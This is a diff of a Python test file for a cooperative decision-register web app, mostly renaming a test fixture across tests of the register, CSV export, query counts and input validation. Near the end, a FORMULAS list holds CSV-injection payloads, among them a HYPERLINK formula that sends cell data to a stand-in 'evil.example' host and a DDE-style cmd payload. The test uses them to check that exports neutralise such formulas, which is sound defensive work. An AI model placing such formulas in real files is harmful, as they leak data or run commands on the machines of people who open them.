+    scene.set(Outcome, oid, review_on=datetime.now(timezone.utc).date() - timedelta(days=2))
 
 
-def test_the_register_flags_reviews_that_are_due_and_nothing_else(board):
-    due = board.decided(title="Review me", review_on=tomorrow())
-    board.decided(title="Later", review_on=tomorrow() + timedelta(days=60))
-    board.decided(title="Never")
-    _review_due(board, due)
-    rows = re.findall(r"<tr>(.*?)</tr>", page(board.client("member").get("/g/coop/register")), re.S)[1:]
+def test_the_register_flags_reviews_that_are_due_and_nothing_else(scene):
+    due = scene.decided(title="Review me", review_on=tomorrow())
+    scene.decided(title="Later", review_on=tomorrow() + timedelta(days=60))
+    scene.decided(title="Never")
+    _review_due(scene, due)
+    rows = re.findall(r"<tr>(.*?)</tr>", page(scene.client("member").get("/g/coop/register")), re.S)[1:]
     flagged = [text(row) for row in rows if "⚑" in row]
     assert len(rows) == 3
     assert len(flagged) == 1 and "Review me" in flagged[0]
 
 
-def test_the_register_csv_has_a_header_and_one_row_per_outcome(board):
-    board.decided(title="Paint the door", statement="Blue, with a \"quote\", and a\nsecond line.", review_on=tomorrow(),
+def test_the_register_csv_has_a_header_and_one_row_per_outcome(scene):
+    scene.decided(title="Paint the door", statement="Blue, with a \"quote\", and a\nsecond line.", review_on=tomorrow(),
                   actions=[("Buy paint", "member", None), ("Find brushes", None, None)])
-    board.decided(title="문 칠하기", result="not_adopted")
-    board.close(board.propose("member", title="Closed without outcome"))
-    board.propose("member", title="Still open")
-    response = board.client("member").get("/g/coop/register.csv")
+    scene.decided(title="문 칠하기", result="not_adopted")
+    scene.close(scene.propose("member", title="Closed without outcome"))
+    scene.propose("member", title="Still open")
+    response = scene.client("member").get("/g/coop/register.csv")
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     assert "coop-decision-register.csv" in response.headers["Content-Disposition"]
@@ -564,24 +564,24 @@ def test_the_register_csv_has_a_header_and_one_row_per_outcome(board):
     assert by_title["문 칠하기"][4] == "not_adopted"
 
 
-def test_the_register_csv_follows_the_filters(board):
-    board.decided(title="Yes", result="adopted")
-    board.decided(title="No", result="not_adopted")
+def test_the_register_csv_follows_the_filters(scene):
+    scene.decided(title="Yes", result="adopted")
+    scene.decided(title="No", result="not_adopted")
     rows = list(csv.reader(io.StringIO(
-        board.client("member").get("/g/coop/register.csv?result=not_adopted").get_data(as_text=True).lstrip("\ufeff"))))
+        scene.client("member").get("/g/coop/register.csv?result=not_adopted").get_data(as_text=True).lstrip("\ufeff"))))
     assert [row[2] for row in rows[1:]] == ["No"]
 
 
-def test_the_register_page_filters_by_result_year_and_tag(board):
+def test_the_register_page_filters_by_result_year_and_tag(scene):
     from app.archive import threads as archive
 
-    with board.ctx():
-        tagged = archive.start_thread(board.user("member"), board.group(), "Garden", "Beds", ["garden"]).id
-    pid = board.propose("member", title="Raised beds", thread=tagged)
-    board.close(pid)
-    board.outcome(pid, result="not_adopted")
-    board.decided(title="Paint the door")
-    client = board.client("member")
+    with scene.ctx():
+        tagged = archive.start_thread(scene.user("member"), scene.group(), "Garden", "Beds", ["garden"]).id
+    pid = scene.propose("member", title="Raised beds", thread=tagged)
+    scene.close(pid)
+    scene.outcome(pid, result="not_adopted")
+    scene.decided(title="Paint the door")
+    client = scene.client("member")
     year = datetime.now(timezone.utc).year
 
     def titles(query):
@@ -600,25 +600,25 @@ def test_the_register_page_filters_by_result_year_and_tag(board):
 # ---------------------------------------------------------------- what needs me
 
 
-def test_needs_me_lists_proposals_to_vote_on_closing_soonest_first_actions_and_reviews(board):
-    board.propose("facilitator", title="Late", days=9)
-    board.propose("facilitator", title="Soon", days=1)
-    voted = board.propose("facilitator", title="Voted", days=2)
-    board.vote(voted, "member", "consent")
-    due = board.decided(title="Review me", review_on=tomorrow(), actions=[("Buy a lock", "member", None)])
-    _review_due(board, due)
-    body = page(board.client("member").get("/needs-me"))
+def test_needs_me_lists_proposals_to_vote_on_closing_soonest_first_actions_and_reviews(scene):
+    scene.propose("facilitator", title="Late", days=9)
+    scene.propose("facilitator", title="Soon", days=1)
+    voted = scene.propose("facilitator", title="Voted", days=2)
+    scene.vote(voted, "member", "consent")
+    due = scene.decided(title="Review me", review_on=tomorrow(), actions=[("Buy a lock", "member", None)])
+    _review_due(scene, due)
+    body = page(scene.client("member").get("/needs-me"))
     titles = re.findall(r'<a href="/p/\d+(?:#outcome)?">([^<]+)</a>', body)
     assert [t for t in titles if t in ("Late", "Soon", "Voted", "Buy a lock", "Review me")] == [
         "Soon", "Late", "Buy a lock", "Review me"]
 
 
-def test_the_group_home_shows_what_needs_me_there(board):
-    pid = board.propose("facilitator", title="Vote on me")
-    board.vote(pid, "facilitator", "consent")
-    home = page(board.client("member").get("/g/coop"))
+def test_the_group_home_shows_what_needs_me_there(scene):
+    pid = scene.propose("facilitator", title="Vote on me")
+    scene.vote(pid, "facilitator", "consent")
+    home = page(scene.client("member").get("/g/coop"))
     assert "Vote on me" in section(home, "needs-me", "aria-labelledby")
-    author = page(board.client("facilitator").get("/g/coop"))
+    author = page(scene.client("facilitator").get("/g/coop"))
     assert "Nothing needs you right now." in section(author, "needs-me", "aria-labelledby")
 
 
@@ -632,57 +632,57 @@ def _queries(app, client, path) -> int:
     return len(statements)
 
 
-def test_the_proposal_page_runs_the_same_queries_for_3_and_30_votes(board):
-    handles = board.crowd(30)
-    few, many = board.propose("facilitator", title="Few"), board.propose("facilitator", title="Many")
+def test_the_proposal_page_runs_the_same_queries_for_3_and_30_votes(scene):
+    handles = scene.crowd(30)
+    few, many = scene.propose("facilitator", title="Few"), scene.propose("facilitator", title="Many")
     choices = ["consent", "concern", "object"]
     for i, handle in enumerate(handles):
         choice = choices[i % 3]
         if i < 3:
-            board.vote(few, handle, choice, REASON)
-        board.vote(many, handle, choice, REASON)
-    board.amend(many, "facilitator")
-    client = board.client("member")
-    assert _queries(board.app, client, f"/p/{few}") == _queries(board.app, client, f"/p/{many}")
-    board.close(few)
-    board.close(many)
-    assert _queries(board.app, client, f"/p/{few}") == _queries(board.app, client, f"/p/{many}")
+            scene.vote(few, handle, choice, REASON)
+        scene.vote(many, handle, choice, REASON)
+    scene.amend(many, "facilitator")
+    client = scene.client("member")
+    assert _queries(scene.app, client, f"/p/{few}") == _queries(scene.app, client, f"/p/{many}")
+    scene.close(few)
+    scene.close(many)
+    assert _queries(scene.app, client, f"/p/{few}") == _queries(scene.app, client, f"/p/{many}")
 
 
-def test_the_register_runs_the_same_queries_for_2_and_20_outcomes(board):
+def test_the_register_runs_the_same_queries_for_2_and_20_outcomes(scene):
     for i in range(2):
-        board.decided(title=f"Decision {i}", review_on=tomorrow(), actions=[("Act", "member", None)])
-    client = board.client("member")
-    small = _queries(board.app, client, "/g/coop/register")
+        scene.decided(title=f"Decision {i}", review_on=tomorrow(), actions=[("Act", "member", None)])
+    client = scene.client("member")
+    small = _queries(scene.app, client, "/g/coop/register")
     for i in range(2, 20):
-        board.decided(title=f"Decision {i}", review_on=tomorrow(), actions=[("Act", "member", None)])
-    assert _queries(board.app, client, "/g/coop/register") == small
+        scene.decided(title=f"Decision {i}", review_on=tomorrow(), actions=[("Act", "member", None)])
+    assert _queries(scene.app, client, "/g/coop/register") == small
 
 
-def test_needs_me_runs_the_same_queries_for_2_and_20_open_proposals(board):
+def test_needs_me_runs_the_same_queries_for_2_and_20_open_proposals(scene):
     for i in range(2):
-        board.propose("facilitator", title=f"Open {i}")
-    board.decided(actions=[("Act", "member", None)])
-    client = board.client("member")
-    small = _queries(board.app, client, "/needs-me")
+        scene.propose("facilitator", title=f"Open {i}")
+    scene.decided(actions=[("Act", "member", None)])
+    client = scene.client("member")
+    small = _queries(scene.app, client, "/needs-me")
     for i in range(2, 20):
-        board.propose("facilitator", title=f"Open {i}")
-    board.decided(actions=[("Act", "member", None)])
-    assert _queries(board.app, client, "/needs-me") == small
+        scene.propose("facilitator", title=f"Open {i}")
+    scene.decided(actions=[("Act", "member", None)])
+    assert _queries(scene.app, client, "/needs-me") == small
 
 
 # ---------------------------------------------------------------- inputs that used to end in a 500
 
 
 @pytest.mark.parametrize("thread", ["99999999999999999999", str(2**31), "-1"])
-def test_a_thread_id_no_row_can_have_is_not_found_on_the_new_proposal_page(board, thread):
-    before = board.counts()
-    client = board.client("member")
+def test_a_thread_id_no_row_can_have_is_not_found_on_the_new_proposal_page(scene, thread):
+    before = scene.counts()
+    client = scene.client("member")
     assert client.get(f"/g/coop/decisions/new?thread={thread}").status_code == 404
     data = {"title": "Paint the door", "body": "Blue.", "days": "3", "thread": thread}
     assert client.post("/g/coop/decisions/new", data=data).status_code == 404
     assert client.post(f"/g/coop/decisions/new?thread={thread}", data=data).status_code == 404
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
 EDGE_TIMES = [("0001-01-01T00:00", "The closing time must be in the future."),
@@ -691,45 +691,45 @@ EDGE_TIMES = [("0001-01-01T00:00", "The closing time must be in the future."),
 ZONES = ["Asia/Seoul", "America/New_York", "UTC"]
 
 
-def _in_zone(board, who, zone):
+def _in_zone(scene, who, zone):
     from app.accounts.models import User
 
-    board.set(User, board.uid(who), timezone=zone)
+    scene.set(User, scene.uid(who), timezone=zone)
 
 
 @pytest.mark.parametrize("zone", ZONES)
 @pytest.mark.parametrize("closes_at, message", EDGE_TIMES)
-def test_a_closing_time_at_the_edge_of_the_calendar_is_refused_with_a_message(board, zone, closes_at, message):
-    _in_zone(board, "member", zone)
-    before = board.counts()
-    response = board.client("member").post("/g/coop/decisions/new", data={
+def test_a_closing_time_at_the_edge_of_the_calendar_is_refused_with_a_message(scene, zone, closes_at, message):
+    _in_zone(scene, "member", zone)
+    before = scene.counts()
+    response = scene.client("member").post("/g/coop/decisions/new", data={
         "title": "Paint the door", "body": "Blue.", "closes_at": closes_at})
     assert response.status_code == 422
     assert message in page(response)
-    assert board.counts() == before
+    assert scene.counts() == before
 
 
 @pytest.mark.parametrize("zone", ZONES)
 @pytest.mark.parametrize("closes_at, message", EDGE_TIMES)
-def test_opening_or_reopening_at_the_edge_of_the_calendar_is_refused_with_a_message(board, zone, closes_at, message):
-    draft = board.propose("facilitator", draft=True)
-    closed = board.propose("member")
-    board.close(closed)
-    _in_zone(board, "facilitator", zone)
-    client = board.client("facilitator")
+def test_opening_or_reopening_at_the_edge_of_the_calendar_is_refused_with_a_message(scene, zone, closes_at, message):
+    draft = scene.propose("facilitator", draft=True)
+    closed = scene.propose("member")
+    scene.close(closed)
+    _in_zone(scene, "facilitator", zone)
+    client = scene.client("facilitator")
     for path in (f"/p/{draft}/open", f"/p/{closed}/reopen"):
         response = client.post(path, data={"closes_at": closes_at}, follow_redirects=True)
         assert response.status_code == 200
         assert message in page(response)
-    assert board.get(Proposal, draft, "status") == "draft"
-    assert board.get(Proposal, closed, "status") == "closed"
+    assert scene.get(Proposal, draft, "status") == "draft"
+    assert scene.get(Proposal, closed, "status") == "closed"
 
 
-def test_opening_with_a_time_that_is_not_a_time_says_so(board):
-    draft = board.propose("member", draft=True)
-    response = board.client("member").post(f"/p/{draft}/open", data={"closes_at": "soon"}, follow_redirects=True)
+def test_opening_with_a_time_that_is_not_a_time_says_so(scene):
+    draft = scene.propose("member", draft=True)
+    response = scene.client("member").post(f"/p/{draft}/open", data={"closes_at": "soon"}, follow_redirects=True)
     assert "Not a valid datetime value." in page(response)
-    assert board.get(Proposal, draft, "status") == "draft"
+    assert scene.get(Proposal, draft, "status") == "draft"
 
 
 # ---------------------------------------------------------------- spreadsheet formulas
@@ -739,12 +739,12 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Click")', "@SUM(1+1)*cmd|'
             "\t=1+1", "\r=1+1", "＝1+1"]
 
 
-def test_the_register_csv_writes_no_cell_a_spreadsheet_would_run_as_a_formula(board):
+def test_the_register_csv_writes_no_cell_a_spreadsheet_would_run_as_a_formula(scene):
     for i, formula in enumerate(FORMULAS):
-        pid = board.propose("member", title=formula)
-        board.close(pid)
-        board.outcome(pid, statement=FORMULAS[-1 - i])
-    body = board.client("member").get("/g/coop/register.csv").get_data(as_text=True)
+        pid = scene.propose("member", title=formula)
+        scene.close(pid)
+        scene.outcome(pid, statement=FORMULAS[-1 - i])
+    body = scene.client("member").get("/g/coop/register.csv").get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")))
     cells = [cell for row in rows[1:] for cell in row]
     assert len(rows) == 1 + len(FORMULAS)
